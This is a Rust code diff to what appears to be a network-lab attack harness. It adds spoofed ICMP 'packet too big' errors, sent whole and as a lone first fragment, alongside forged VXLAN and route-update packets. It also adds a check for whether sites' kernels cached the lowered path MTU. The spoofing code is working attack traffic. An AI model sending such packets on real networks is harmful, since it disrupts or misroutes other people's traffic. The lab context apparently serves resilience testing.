@@ -80,7 +80,13 @@ impl<'a> Attack<'a> {
                 .collect();
             let entries = run(&format!("bridge -n {} fdb show", self.lab.netns(site)))?;
             let entries: BTreeSet<&str> = entries.lines().filter(|line| line.contains("vx-")).map(str::trim).collect();
-            beliefs.push(format!("{site}: {lsas:#?} {neighbors:#?} {routes:#?} {entries:#?}"));
+            let mut narrow: BTreeSet<Ipv4Addr> = BTreeSet::new();
+            for (_, loopback) in &self.sites {
+                // What the kernel was told of a path MTU expires.
+                let way = self.lab.ip(site, &format!("route get {loopback}"))?;
+                narrow.extend(way.contains("expires").then_some(*loopback));
+            }
+            beliefs.push(format!("{site}: {lsas:#?} {neighbors:#?} {routes:#?} {entries:#?} narrow: {narrow:?}"));
         }
         Ok(beliefs)
     }
@@ -97,7 +103,13 @@ impl<'a> Attack<'a> {
             }
         }
         let mac = [2, 0, 0, 0, 1, 0x0a];
+        let router = self.sites.iter().find(|(site, _)| site == from).context("the site is one of the lab")?.1;
         for (_, target) in &others {
+            for error in [Packet::too_big(own, *target, router), Packet::too_big(own, router, *target)] {
+                // Without its first fragment the rest of a message is nothing.
+                send(&socket, &error.in_fragments(79, 8)[0])?;
+                send(&socket, &error)?;
+            }
             for source in [own].into_iter().chain(self.sites.iter().map(|(_, loopback)| *loopback)) {
                 let vxlan = Packet::vxlan(source, *target, VNI, mac, Ipv4Addr::new(10, 9, 0, 11));
                 let update = Packet::update(source, *target, source, VNI);
